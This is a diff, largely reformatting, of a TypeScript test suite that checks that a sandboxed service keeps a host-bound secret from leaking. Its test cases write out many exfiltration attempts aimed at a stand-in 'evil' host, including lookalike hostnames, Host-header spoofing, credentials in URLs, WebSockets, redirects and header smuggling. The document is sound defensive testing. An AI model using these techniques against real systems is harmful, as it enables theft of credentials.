@@ -4,7 +4,12 @@ import { join } from "node:path"
 import { createAuthority } from "../support/certificates.ts"
 import { notRun } from "../support/databases.ts"
 import { findInMemory } from "./support/memory.ts"
-import { type OutsideRequest, OutsideServer, toRawUrl, toRedirect } from "./support/outside-server.ts"
+import {
+  type OutsideRequest,
+  OutsideServer,
+  toRawUrl,
+  toRedirect,
+} from "./support/outside-server.ts"
 import { createPuppet, type Puppet } from "./support/puppet.ts"
 import { describeVillage, probe } from "./support/test-village.ts"
 import type { Village, Villager } from "./support/village.ts"
@@ -21,7 +26,9 @@ const secure = Bun.serve({
   fetch(request) {
     const { searchParams } = new URL(request.url)
     const to = searchParams.get("to")
-    return to === null ? Response.json(Object.fromEntries(request.headers)) : new Response(null, { status: 307, headers: { location: to } })
+    return to === null
+      ? Response.json(Object.fromEntries(request.headers))
+      : new Response(null, { status: 307, headers: { location: to } })
   },
 })
 /** The one host that the secret is for. */
@@ -40,13 +47,18 @@ afterAll(() => {
 })
 
 const env = {
-  HAMLET_EGRESS_ALLOW: [host.port, other.port, secure.port].flatMap((port) => [`localhost:${port}`, `*.localhost:${port}`]).join(","),
+  HAMLET_EGRESS_ALLOW: [host.port, other.port, secure.port]
+    .flatMap((port) => [`localhost:${port}`, `*.localhost:${port}`])
+    .join(","),
   HAMLET_EGRESS_CA: authority.path,
 }
 
 interface Theft {
   readonly tries: string
-  /** What the val does; `key` is what it sees of the secret, and `mark` must be in the path of every request. */
+  /**
+   * What the val does; `key` is what it sees of the secret, and `mark` must be in the path of every
+   * request.
+   */
   readonly code: string
   /** Where nothing is sent at all. */
   readonly denied?: RegExp
@@ -63,30 +75,60 @@ const thefts: readonly Theft[] = [
   { tries: "the host on another port", code: send(`api.localhost:${other.port}`, asHeader) },
   { tries: "a host below it", code: send(`eu.${right}`, asHeader) },
   { tries: "the host above it", code: send(`localhost:${host.port}`, asHeader) },
-  { tries: "a host that begins like it", code: send(`api.localhost.evil.localhost:${host.port}`, asHeader) },
+  {
+    tries: "a host that begins like it",
+    code: send(`api.localhost.evil.localhost:${host.port}`, asHeader),
+  },
   { tries: "a host that ends like it", code: send(`xapi.localhost:${host.port}`, asHeader) },
   { tries: "a host with a hyphen", code: send(`evil-api.localhost:${host.port}`, asHeader) },
-  { tries: "a host in letters that look like it", code: send(`\\u0430pi.localhost:${host.port}`, asHeader) },
+  {
+    tries: "a host in letters that look like it",
+    code: send(`\\u0430pi.localhost:${host.port}`, asHeader),
+  },
   { tries: "a host with its name as a user", code: send(`${right}@${evil}`, asHeader) },
-  { tries: "another host with its name in Host", code: send(evil, `{ headers: { "x-api-key": key, host: "${right}" } }`) },
+  {
+    tries: "another host with its name in Host",
+    code: send(evil, `{ headers: { "x-api-key": key, host: "${right}" } }`),
+  },
   {
     tries: "another host with its name in Host, by a client of its own",
-    code: send(evil, `{ headers: { "x-api-key": key, host: "${right}" }, client: Deno.createHttpClient({ allowHost: true }) }`),
+    code: send(
+      evil,
+      `{ headers: { "x-api-key": key, host: "${right}" }, client: Deno.createHttpClient({ allowHost: true }) }`,
+    ),
   },
   { tries: "another host as user and password", code: send(evil, asBasic) },
   {
     tries: "another host as user and password in the address",
     code: `await fetch(\`http://\${encodeURIComponent(key)}:x@${evil}/\${mark}\`)`,
   },
-  { tries: "another host as a cookie", code: send(evil, "{ headers: { cookie: `session=${key}` } }") },
+  {
+    tries: "another host as a cookie",
+    code: send(evil, "{ headers: { cookie: `session=${key}` } }"),
+  },
   {
     tries: "another host in every header there is",
-    code: send(evil, "{ headers: [['accept', key], ['user-agent', key], ['referer', key], ['x-a', key], ['x-b', `a${key}b${key}`]] }"),
+    code: send(
+      evil,
+      "{ headers: [['accept', key], ['user-agent', key], ['referer', key], ['x-a', key], ['x-b', `a${key}b${key}`]] }",
+    ),
   },
-  { tries: "the path of the right host", code: send(right, "{}").replace("${mark}", "${mark}/${key}/${encodeURIComponent(key)}") },
-  { tries: "the query of the right host", code: send(right, "{}").replace("${mark}", "${mark}?key=${key}") },
-  { tries: "the body of the right host", code: send(right, `{ method: "POST", body: JSON.stringify({ key }) }`) },
-  { tries: "a form for the right host", code: send(right, `{ method: "POST", body: new URLSearchParams({ key }) }`) },
+  {
+    tries: "the path of the right host",
+    code: send(right, "{}").replace("${mark}", "${mark}/${key}/${encodeURIComponent(key)}"),
+  },
+  {
+    tries: "the query of the right host",
+    code: send(right, "{}").replace("${mark}", "${mark}?key=${key}"),
+  },
+  {
+    tries: "the body of the right host",
+    code: send(right, `{ method: "POST", body: JSON.stringify({ key }) }`),
+  },
+  {
+    tries: "a form for the right host",
+    code: send(right, `{ method: "POST", body: new URLSearchParams({ key }) }`),
+  },
   {
     tries: "a file for the right host",
     code: send(
@@ -94,8 +136,15 @@ const thefts: readonly Theft[] = [
       `{ method: "POST", body: (() => { const form = new FormData(); form.set(key, new Blob([key]), key); return form })() }`,
     ),
   },
-  { tries: "a stream for the right host", code: send(right, `{ method: "POST", body: new Blob([key]).stream() }`) },
-  { tries: "the name of a header", code: send(right, "{ headers: { [key]: 'x' } }"), denied: /^TypeError: / },
+  {
+    tries: "a stream for the right host",
+    code: send(right, `{ method: "POST", body: new Blob([key]).stream() }`),
+  },
+  {
+    tries: "the name of a header",
+    code: send(right, "{ headers: { [key]: 'x' } }"),
+    denied: /^TypeError: /,
+  },
   { tries: "the method", code: send(right, "{ method: key }"), denied: /^TypeError: / },
   {
     tries: "headers of the right host that steer the request",
@@ -108,7 +157,11 @@ const thefts: readonly Theft[] = [
     tries: "a WebSocket to another host",
     code: `await new Promise((resolve) => { const socket = new WebSocket(\`ws://${evil}/\${mark}\`, { headers: { "x-api-key": key } }); socket.onopen = socket.onerror = resolve })`,
   },
-  { tries: "the protocol of a WebSocket", code: `new WebSocket(\`ws://${right}/\${mark}\`, [key])`, denied: /^SyntaxError: / },
+  {
+    tries: "the protocol of a WebSocket",
+    code: `new WebSocket(\`ws://${right}/\${mark}\`, [key])`,
+    denied: /^SyntaxError: /,
+  },
   {
     tries: "another host by a redirect",
     code: `const to = new URL("${toRawUrl(host.port, "redirect", "")}"); to.host = "${right}"; to.search = btoa(\`${toRedirect(`http://${evil}/`).replaceAll("\r\n", "\\r\\n").replace(`${evil}/`, `${evil}/\${mark}`)}\`).replaceAll("+", "-").replaceAll("/", "_"); await fetch(to, ${asHeader})`,
@@ -123,17 +176,29 @@ const thefts: readonly Theft[] = [
   },
   {
     tries: "another host inside of itself",
-    code: send(evil, "{ headers: { 'x-api-key': `hamlet-secret:${key}`, 'x-b': key.slice(0, 8) + key + key.slice(8) } }"),
+    code: send(
+      evil,
+      "{ headers: { 'x-api-key': `hamlet-secret:${key}`, 'x-b': key.slice(0, 8) + key + key.slice(8) } }",
+    ),
   },
-  { tries: "another host as a value that is a placeholder", code: send(evil, `{ headers: { "x-api-key": Deno.env.get("NESTED") } }`) },
+  {
+    tries: "another host as a value that is a placeholder",
+    code: send(evil, `{ headers: { "x-api-key": Deno.env.get("NESTED") } }`),
+  },
 ]
 
 let count = 0
 const seenIn = (mark: string) => [...host.seen(mark), ...other.seen(mark)]
 /** All of a request, and what is encoded in it. */
 const toText = (request: OutsideRequest) => {
-  const encoded = request.headers.flatMap(([, content]) => /^basic (\S+)$/i.exec(content)?.[1] ?? [])
-  return [JSON.stringify(request), ...encoded.map((text) => atob(text)), decodeURIComponent(request.target + request.body)].join("\n")
+  const encoded = request.headers.flatMap(
+    ([, content]) => /^basic (\S+)$/i.exec(content)?.[1] ?? [],
+  )
+  return [
+    JSON.stringify(request),
+    ...encoded.map((text) => atob(text)),
+    decodeURIComponent(request.target + request.body),
+  ].join("\n")
 }
 
 describeVillage("what is tried to get at a secret that is for one host", env, (village) => {
@@ -147,7 +212,9 @@ describeVillage("what is tried to get at a secret that is for one host", env, (v
     probe(village, `a val tries to send it to ${tries}`, async () => {
       const { puppet } = await open()
       const mark = `mark${++count}.`
-      const deed = await puppet.act(`const [key, mark] = [Deno.env.get("KEY"), "${mark}"]; ${code}; return key`)
+      const deed = await puppet.act(
+        `const [key, mark] = [Deno.env.get("KEY"), "${mark}"]; ${code}; return key`,
+      )
       if (denied) expect(deed.denied).toMatch(denied)
       else expect(deed.got ?? deed.denied).toBe(placeholder)
       const seen = seenIn(mark)
@@ -159,27 +226,40 @@ describeVillage("what is tried to get at a secret that is for one host", env, (v
       }
     })
 
-  probe(village, "the right host gets it, however it is written, so that the others have not failed for another reason", async () => {
-    const { puppet } = await open()
-    for (const name of [
-      right,
-      right.toUpperCase(),
-      `api.localhost.:${host.port}`,
-      `%61pi.localhost:${host.port}`,
-      `ａｐｉ.localhost:${host.port}`,
-    ]) {
-      const mark = `mark${++count}.`
-      await puppet.act(`const [key, mark] = [Deno.env.get("KEY"), "${mark}"]; ${send(name, asHeader)}; ${send(name, asBasic)}`)
-      const texts = seenIn(mark).map(toText)
-      expect(texts.map((text) => text.includes(value))).toEqual([true, true])
-    }
-  })
+  probe(
+    village,
+    "the right host gets it, however it is written, so that the others have not failed for another reason",
+    async () => {
+      const { puppet } = await open()
+      for (const name of [
+        right,
+        right.toUpperCase(),
+        `api.localhost.:${host.port}`,
+        `%61pi.localhost:${host.port}`,
+        `ａｐｉ.localhost:${host.port}`,
+      ]) {
+        const mark = `mark${++count}.`
+        await puppet.act(
+          `const [key, mark] = [Deno.env.get("KEY"), "${mark}"]; ${send(name, asHeader)}; ${send(name, asBasic)}`,
+        )
+        const texts = seenIn(mark).map(toText)
+        expect(texts.map((text) => text.includes(value))).toEqual([true, true])
+      }
+    },
+  )
 
   probe(village, "a val of somebody else sends the same placeholder", async (place) => {
     const puppet = await createPuppet(place, place.mallory)
-    await puppet.act(`const [key, mark] = ["${placeholder}", "mallory1."]; ${send(right, asHeader)}; ${send(right, asBasic)}`)
-    await place.call("PUT", "/v1/me/secrets/KEY", { as: place.mallory, body: { value: "of-mallory", hosts: [right] } })
-    await puppet.act(`const [key, mark] = [Deno.env.get("KEY"), "mallory2."]; ${send(right, asHeader)}`)
+    await puppet.act(
+      `const [key, mark] = ["${placeholder}", "mallory1."]; ${send(right, asHeader)}; ${send(right, asBasic)}`,
+    )
+    await place.call("PUT", "/v1/me/secrets/KEY", {
+      as: place.mallory,
+      body: { value: "of-mallory", hosts: [right] },
+    })
+    await puppet.act(
+      `const [key, mark] = [Deno.env.get("KEY"), "mallory2."]; ${send(right, asHeader)}`,
+    )
     expect(host.seen("mallory1.").length).toBe(2)
     expect(host.seen("mallory2.").map(toText)).toEqual([expect.stringContaining("of-mallory")])
     for (const request of host.seen("mallory")) expect(toText(request)).not.toContain(value)
@@ -192,7 +272,10 @@ describeVillage("what is tried to get at a secret that is for one host", env, (v
       type: "script",
       privacy: "public",
     })
-    expect(await place.run(val, [], carol)).toMatchObject({ status: "succeeded", returnValue: "none" })
+    expect(await place.run(val, [], carol)).toMatchObject({
+      status: "succeeded",
+      returnValue: "none",
+    })
     expect(host.seen("borrowed.").length).toBe(1)
     for (const request of host.seen("borrowed.")) expect(toText(request)).not.toContain(value)
   })
@@ -204,8 +287,14 @@ describeVillage("what is tried to get at a secret that is for one host", env, (v
       type: "script",
       privacy: "public",
     })
-    expect(await place.run(val, ["lent-to-mallory."], place.mallory)).toMatchObject({ status: "succeeded", returnValue: false })
-    expect(await place.run(val, ["own-run."], carol)).toMatchObject({ status: "succeeded", returnValue: true })
+    expect(await place.run(val, ["lent-to-mallory."], place.mallory)).toMatchObject({
+      status: "succeeded",
+      returnValue: false,
+    })
+    expect(await place.run(val, ["own-run."], carol)).toMatchObject({
+      status: "succeeded",
+      returnValue: true,
+    })
     expect(host.seen("lent-to-mallory.").map(toText).join()).not.toContain(value)
     expect(host.seen("own-run.").map(toText).join()).toContain(value)
   })
@@ -240,7 +329,10 @@ describeVillage("what is tried to get at a secret that is for one host", env, (v
     const answer = await place.visit(val)
     const run = await place.loggedRun(answer.headers.get("x-run-id") ?? "", carol, 3)
     expect(host.seen("/echo").map(toText).join()).toContain(value)
-    expect([run.status, run.error.message]).toEqual(["failed", expect.stringContaining("[secret KEY]")])
+    expect([run.status, run.error.message]).toEqual([
+      "failed",
+      expect.stringContaining("[secret KEY]"),
+    ])
     expect(JSON.stringify(run)).not.toContain(value)
     expect(answer.text).not.toContain(value)
   })
@@ -257,21 +349,34 @@ describeVillage("what is tried to get at a secret that is for one host", env, (v
         `const [key, mark] = [Deno.env.get("KEY"), "split."]; ${send(right, asHeader)}; ${send(right, asBasic)}`,
       )
       expect(host.seen("split.").length).toBe(2)
-      expect(host.seen("split.").filter(({ headers }) => headers.some(([name]) => name === "x-forged"))).toEqual([])
-      expect(JSON.stringify((await place.endedRun(runId, dora)).logs)).toContain("characters that cannot be sent in a header")
+      expect(
+        host.seen("split.").filter(({ headers }) => headers.some(([name]) => name === "x-forged")),
+      ).toEqual([])
+      expect(JSON.stringify((await place.endedRun(runId, dora)).logs)).toContain(
+        "characters that cannot be sent in a header",
+      )
     }
     expect(host.seen("smuggled")).toEqual([])
     expect([...host.faults, ...other.faults]).toEqual([])
   })
 
-  probe(village, "a request would become as large as its value times the placeholders in it", async (place) => {
-    const emil = await place.addVillager("emil")
-    await place.call("PUT", "/v1/me/secrets/KEY", { as: emil, body: { value: "v".repeat(30_000), hosts: [right] } })
-    const puppet = await createPuppet(place, emil)
-    await puppet.act(`const [key, mark] = [Deno.env.get("KEY"), "grown."]; ${send(right, "{ headers: { x: key.repeat(1000) } }")}`)
-    expect(host.seen("grown.").length).toBe(1)
-    expect(host.seen("grown.").map(toText).join().length).toBeLessThan(500_000)
-  })
+  probe(
+    village,
+    "a request would become as large as its value times the placeholders in it",
+    async (place) => {
+      const emil = await place.addVillager("emil")
+      await place.call("PUT", "/v1/me/secrets/KEY", {
+        as: emil,
+        body: { value: "v".repeat(30_000), hosts: [right] },
+      })
+      const puppet = await createPuppet(place, emil)
+      await puppet.act(
+        `const [key, mark] = [Deno.env.get("KEY"), "grown."]; ${send(right, "{ headers: { x: key.repeat(1000) } }")}`,
+      )
+      expect(host.seen("grown.").length).toBe(1)
+      expect(host.seen("grown.").map(toText).join().length).toBeLessThan(500_000)
+    },
+  )
 
   probe(village, "the API tells it to nobody, not even to its owner", async (place) => {
     const { carol, puppet } = await open()
@@ -289,30 +394,46 @@ describeVillage("what is tried to get at a secret that is for one host", env, (v
     expect(texts.join()).toContain('"KEY"')
   })
 
-  if (process.getuid?.() !== 0) notRun("the memory of a sandbox whose val has a secret for one host", "only root may look into it")
+  if (process.getuid?.() !== 0)
+    notRun(
+      "the memory of a sandbox whose val has a secret for one host",
+      "only root may look into it",
+    )
   else
-    probe(village, "somebody looks for it in all of the sandbox: memory, environment, files", async (place) => {
-      const { carol } = await open()
-      const val = await place.save(carol, {
-        code: `const key = Deno.env.get("KEY"); export default async function () { const mark = "quiet."; ${send(right, asHeader)}; return "sent" }`,
-      })
-      expect((await place.visit(val)).text).toBe("sent")
-      expect(host.seen("quiet.").map(toText).join()).toContain(value)
-      const { guest, folder } = await place.sandboxOf(val)
-      expect(findInMemory(guest.pid, [placeholder, value])).toEqual([placeholder])
-      const files = readdirSync(folder, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile())
-      const texts = [...files.map((entry) => join(entry.parentPath, entry.name)), `/proc/${guest.pid}/environ`].map((path) =>
-        readFileSync(path, "latin1"),
-      )
-      expect(texts.join()).not.toContain(value)
-    })
+    probe(
+      village,
+      "somebody looks for it in all of the sandbox: memory, environment, files",
+      async (place) => {
+        const { carol } = await open()
+        const val = await place.save(carol, {
+          code: `const key = Deno.env.get("KEY"); export default async function () { const mark = "quiet."; ${send(right, asHeader)}; return "sent" }`,
+        })
+        expect((await place.visit(val)).text).toBe("sent")
+        expect(host.seen("quiet.").map(toText).join()).toContain(value)
+        const { guest, folder } = await place.sandboxOf(val)
+        expect(findInMemory(guest.pid, [placeholder, value])).toEqual([placeholder])
+        const files = readdirSync(folder, { recursive: true, withFileTypes: true }).filter(
+          (entry) => entry.isFile(),
+        )
+        const texts = [
+          ...files.map((entry) => join(entry.parentPath, entry.name)),
+          `/proc/${guest.pid}/environ`,
+        ].map((path) => readFileSync(path, "latin1"))
+        expect(texts.join()).not.toContain(value)
+      },
+    )
 
-  probe(village, "the server has not logged it", async (place) => expect(place.hamlet.stdout + place.hamlet.stderr).not.toContain(value))
+  probe(village, "the server has not logged it", async (place) =>
+    expect(place.hamlet.stdout + place.hamlet.stderr).not.toContain(value),
+  )
 })
 
-async function settle(place: Village): Promise<{ readonly carol: Villager; readonly puppet: Puppet }> {
+async function settle(
+  place: Village,
+): Promise<{ readonly carol: Villager; readonly puppet: Puppet }> {
   const carol = await place.addVillager("carol")
-  const put = (name: string, body: object) => place.call("PUT", `/v1/me/secrets/${name}`, { as: carol, body })
+  const put = (name: string, body: object) =>
+    place.call("PUT", `/v1/me/secrets/${name}`, { as: carol, body })
   const saved = await put("KEY", { value, hosts: [right] })
   expect(saved.status).toBeLessThan(300)
   await put("SECURE_KEY", { value: secureValue, hosts: [`api.localhost:${secure.port}`] })
